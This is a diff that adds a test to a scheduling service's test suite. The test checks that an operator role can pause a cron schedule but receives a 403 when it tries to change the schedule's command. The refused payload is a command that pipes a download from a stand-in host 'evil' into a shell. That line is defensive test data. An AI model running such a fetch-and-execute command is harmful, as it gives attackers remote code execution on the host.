@@ -204,3 +204,27 @@ def test_the_throttle_counts_across_processes_and_restarts(secured: TestClient, 
     assert ok.status_code == 303
     for _ in range(4):
         assert secured.post("/login", data={"username": "ada", "password": "nope nope"}).status_code == 401
+
+
+def test_an_operator_pauses_schedules_but_does_not_change_what_they_run(
+    secured: TestClient, store: Store
+) -> None:
+    admin = {"Authorization": f"Bearer {add_token(store, 'admin-t', 'admin')}"}
+    operator = {"Authorization": f"Bearer {add_token(store, 'op-t', 'operator')}"}
+    spec = {
+        "name": "n",
+        "kind": "cron",
+        "cron": "0 2 * * *",
+        "target": {"type": "command", "command": ["true"]},
+    }
+    sid = secured.post("/api/v1/schedules", json=spec, headers=admin).json()["id"]
+    path = f"/api/v1/schedules/{sid}"
+    assert secured.patch(path, json={"paused": True}, headers=operator).json()["paused"] is True
+    evil = {"target": {"type": "command", "command": ["sh", "-c", "curl evil | sh"]}, "paused": False}
+    refused = secured.patch(path, json=evil, headers=operator)
+    assert refused.status_code == 403
+    assert "'target'" in refused.json()["detail"]
+    stored = secured.get(path, headers=operator).json()
+    assert stored["target"]["command"] == ["true"]
+    assert stored["paused"] is True
+    assert secured.patch(path, json={"cron": "*/5 * * * *"}, headers=admin).status_code == 200
